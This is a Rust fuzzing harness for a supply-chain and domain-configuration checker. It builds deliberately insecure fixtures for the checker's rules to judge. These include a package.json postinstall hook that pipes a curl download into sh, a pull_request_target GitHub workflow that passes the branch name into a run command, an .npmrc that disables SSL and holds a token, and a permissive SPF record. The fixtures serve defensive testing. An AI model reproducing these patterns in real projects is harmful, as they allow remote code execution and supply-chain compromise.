//! Facts that were stored, and are judged again.

use std::sync::{Arc, LazyLock};

use serde_json::Value;

use super::files::facts_of;
use crate::check::{Subject, Target, World, check};
use crate::cli::documents;
use crate::collect::fuzzing::observed;
use crate::config::{Config, Date};
use crate::facts::Facts;
use crate::report::{Format, Look, render};
use crate::setup::Setup;

/// A domain with something of everything: the form is told in `collect::dns::client::fuzzing`.
const ZONE: &[u8] = b"0atv=spf1 include:b.net mx ?all\nbtv=spf1 ptr +all\nam10 b.net\nam0 \n\
    b4198.51.100.25\ndtv=DMARC1; p=none; sp=junk; rua=mailto:x@b.net\nftv=STSv1; id=1;\n\
    gtv=TLSRPTv1; rua=mailto:x@b.net\nhtv=DKIM1; p=AAAA; t=y\n\n\
    :version: STSv1\nmode: testing\nmx: c.net\nmax_age: 1\n";

const MANIFEST: &str = r#"{"name": "a", "version": "1.0.0", "author": "A <a@a.net>",
    "scripts": {"postinstall": "curl https://a.net | sh"}, "dependencies": {"b": "git+ssh://b"}}"#;

const WORKFLOW: &str = "on: pull_request_target\njobs:\n  a:\n    runs-on: self-hosted\n    steps:\n\
    \x20     - uses: actions/checkout@v4\n      - run: npm publish ${{ github.head_ref }}\n";

/// Facts that many rules find something in, and the place of every value in them.
static BASE: LazyLock<(Value, Vec<String>)> = LazyLock::new(|| {
    let manifest = facts_of("package.json", MANIFEST.as_bytes());
    let workflow = facts_of(".github/workflows/a.yml", WORKFLOW.as_bytes());
    let settings = facts_of(".npmrc", b"strict-ssl=false\n//a.net/:_authToken=x\n");
    let facts = Facts {
        packages: manifest.packages,
        pipelines: workflow.pipelines,
        settings: settings.settings,
        ..observed(ZONE)
    };
    let value = serde_json::to_value(facts).unwrap_or_default();
    let mut places = Vec::new();
    list(&value, &mut String::new(), &mut places);
    (value, places)
});

static SETUP: LazyLock<Arc<Setup>> = LazyLock::new(|| Arc::new(Setup::new(Config::defaults())));

/// A file of stored facts: whatever was read, judging and showing it ends with a verdict of every
/// rule. An input that does not begin with `{` is a list of changes to facts as they are, each a
/// line: the number of a value, a space, and the new one as JSON, or else as a string.
pub fn stored_facts(bytes: &[u8]) {
    if bytes.starts_with(b"{") {
        return judged(bytes);
    }
    let (base, places) = &*BASE;
    let mut value = base.clone();
    for line in bytes.split(|byte| *byte == b'\n') {
        let line = String::from_utf8_lossy(line);
        let Some((number, new)) = line.split_once(' ') else { continue };
        let number: usize = number.parse().unwrap_or_default();
        let place = places.get(number % places.len());
        if let Some(old) = place.and_then(|place| value.pointer_mut(place)) {
            *old = serde_json::from_str(new).unwrap_or_else(|_| Value::from(new));
        }
    }
    judged(&serde_json::to_vec(&value).unwrap_or_default());
}

fn judged(bytes: &[u8]) {
    let mut targets = Vec::new();
    let read = documents(bytes, |facts| {
        let subject = Subject::Facts(Arc::new(facts));
        targets.push(Target { name: "a".to_owned(), subject, setup: Arc::clone(&SETUP) });
    });
    if read.is_err() || targets.is_empty() {
        return;
    }
    targets.truncate(2);
    let report = check(&targets, World::offline(Date::from_unix(0)));
    assert_eq!(report.targets.len(), targets.len());
    for target in &report.targets {
        assert_eq!(target.verdicts.len(), report.rules.len(), "a rule has no verdict");
    }
    let look = Look { color: false, width: 80, verbose: true };
    for format in [
        Format::Pretty,
        Format::Concise,
        Format::Ndjson,
        Format::Sarif,
        Format::Github,
        Format::Json,
    ] {
        assert!(
            !render(&report, format, look).contains('\u{1b}'),
            "{format:?} speaks to a terminal"
        );
    }
}

/// The pointer of every value below this one.
fn list(value: &Value, at: &mut String, places: &mut Vec<String>) {
    let children: Vec<(String, &Value)> = match value {
        Value::Array(items) => {
            items.iter().enumerate().map(|(index, item)| (index.to_string(), item)).collect()
        }
        Value::Object(members) => members
            .iter()
            .map(|(key, value)| (key.replace('~', "~0").replace('/', "~1"), value))
            .collect(),
        _ => Vec::new(),
    };
    for (key, value) in children {
        let length = at.len();
        at.push('/');
        at.push_str(&key);
        places.push(at.clone());
        list(value, at, places);
        at.truncate(length);
    }
}
